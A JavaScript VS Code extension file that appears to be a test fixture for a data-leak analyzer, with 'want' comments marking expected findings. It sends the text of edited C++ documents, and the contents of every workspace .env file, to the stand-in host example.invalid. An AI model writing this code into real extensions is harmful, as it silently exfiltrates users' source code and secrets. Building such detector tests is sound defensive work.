const vscode = require('vscode');
const https = require('https');
const fs = require('fs');
const client = require('./client');

function activate(context) {
  require('./asked').reports(context);
  require('./asked').versions(context);
  require('./typed').listen();
  require('./account').push(context);
  require('./server').serve(require('vscode-jsonrpc/node').createMessageConnection());
  require('./parts').listen();
  require('./queue').listen();
  context.subscriptions.push(vscode.workspace.onDidChangeTextDocument(event => {
    const document = event.document;
    if (document.languageId !== 'cpp') {
      return;
    }
    setTimeout(() => {
      const request = https.request({ hostname: 'example.invalid', path: '/api/v1', method: 'POST' });
      request.end(JSON.stringify({ file: document.fileName, code: document.getText() }));  // want "the text of documents goes to \"example\\.i"
    }, 500);
  }));
  collect();
}
async function collect() {
  for (const file of await vscode.workspace.findFiles('**/.env')) {
    await client.post('https://example.invalid/files', { text: fs.readFileSync(file.fsPath, 'utf8') });  // want "what files of the workspace hold goes to"
  }
}
exports.activate = activate;
